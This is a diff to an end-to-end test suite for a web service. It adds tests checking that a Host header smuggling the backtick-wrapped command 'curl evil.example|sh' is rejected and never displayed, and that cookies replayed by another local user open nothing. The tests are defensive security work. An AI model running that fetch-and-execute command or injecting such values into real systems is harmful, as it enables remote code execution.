@@ -2,13 +2,16 @@
 
 import contextlib
 import json
+import os
 import re
 import socket
 import ssl
 import struct
+import subprocess
 import time
 from collections.abc import Iterator
 from pathlib import Path
+from typing import Any
 
 import pytest
 from playwright.sync_api import Browser, expect
@@ -29,6 +32,7 @@ FOREIGN = """() => ({
     styled: document.querySelectorAll("main [style]").length,
     alerted: window.alerted === true,
 })"""
+_NOBODY = 65534
 NOTHING = {"scripts": 0, "images": 0, "handlers": 0, "styled": 0, "alerted": False}
 
 
@@ -92,6 +96,29 @@ def test_a_name_of_markup_is_read_as_it_was_written(planted: Place) -> None:
         expect(page.locator("section:has(h2:has-text('Twin'))")).to_contain_text("日本語の名前")
 
 
+def test_a_stranger_writes_no_command_onto_a_page(planted: Place) -> None:
+    planned = "curl evil.example|sh"
+    with tls(planted.server, 9443, insecure()) as line:
+        line.sendall(f"GET /signin HTTP/1.1\r\nHost: x`{planned}`\r\n\r\n".encode())
+        assert b"400" in line.recv(64)
+    deadline = time.monotonic() + 20
+    while not (found := [row for row in refusals_of(planted) if planned in row["cause"]]):
+        assert time.monotonic() < deadline
+        time.sleep(0.1)
+    with planted.operator() as visitor:
+        visitor.expected.add("Failed to load resource")
+        page = visitor.page()
+        for path in (
+            f"/refusals/{found[0]['id']}",
+            "/refusals",
+            "/",
+            f"/nowhere/``{planned}``",
+            f"/devices/`{planned}`",
+        ):
+            visitor.go(page, path)
+            assert planned not in page.locator(".fix code").all_inner_texts(), path
+
+
 def test_a_browser_follows_so_often_and_no_more(planted: Place) -> None:
     planted.asked("POST", "/people/users", {"name": "many", "role": "viewer"})
     code = planted.asked("POST", "/people/users/many/invitation")["code"]
@@ -143,6 +170,23 @@ def test_whoever_is_not_signed_in_is_shown_nothing(planted: Place, tmp_path: Pat
     assert "pump-1" in json.dumps(planted.asked("GET", "/devices/pump-1"))
 
 
+@pytest.mark.skipif(os.getuid() != 0, reason="becomes another user of the machine")
+def test_a_cookie_that_another_user_of_the_machine_caught_opens_nothing(planted: Place) -> None:
+    """Browsers send cookies to every port of a host, so also to one where another user listens."""
+    program = Program(planted.url)
+    program.submit("/open", code=planted.asked("POST", "/console/open")["path"].partition("#")[2])
+    caught = "; ".join(f"{one.name}={one.value}" for one in program.http.cookies)
+    asked = ["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "-H", f"Cookie: {caught}"]
+    for path, refused in (("/people", "303"), ("/operator/v1/people/users", "401")):
+        told = [subprocess.check_output([*asked, planted.url + path], user=user, text=True) for user in (None, _NOBODY)]
+        assert told == ["200", refused], path
+    ending = caught.rpartition("_")[0] + f"_{_NOBODY}"
+    forged = subprocess.check_output(
+        [*asked[:-1], f"Cookie: {ending}", f"{planted.url}/people"], user=_NOBODY, text=True
+    )
+    assert forged == "303"
+
+
 def test_a_form_of_another_site_does_nothing(planted: Place) -> None:
     code = planted.asked("POST", "/people/users/anna/invitation")["code"]
     anna = Program(planted.url)
@@ -177,6 +221,10 @@ def test_a_browser_that_does_not_trust_the_port_for_people_is_no_device_that_was
     assert len(found) == 1  # that of the port of devices
 
 
+def refusals_of(place: Place) -> list[dict[str, Any]]:
+    rows: list[dict[str, Any]] = place.asked("GET", "/refusals?limit=1000")["items"]
+    return rows
+
+
 def refused_by_trust(place: Place) -> list[str]:
-    rows = place.asked("GET", "/refusals?limit=1000")["items"]
-    return [row["id"] for row in rows if row["code"] == "tls.server_not_trusted"]
+    return [row["id"] for row in refusals_of(place) if row["code"] == "tls.server_not_trusted"]
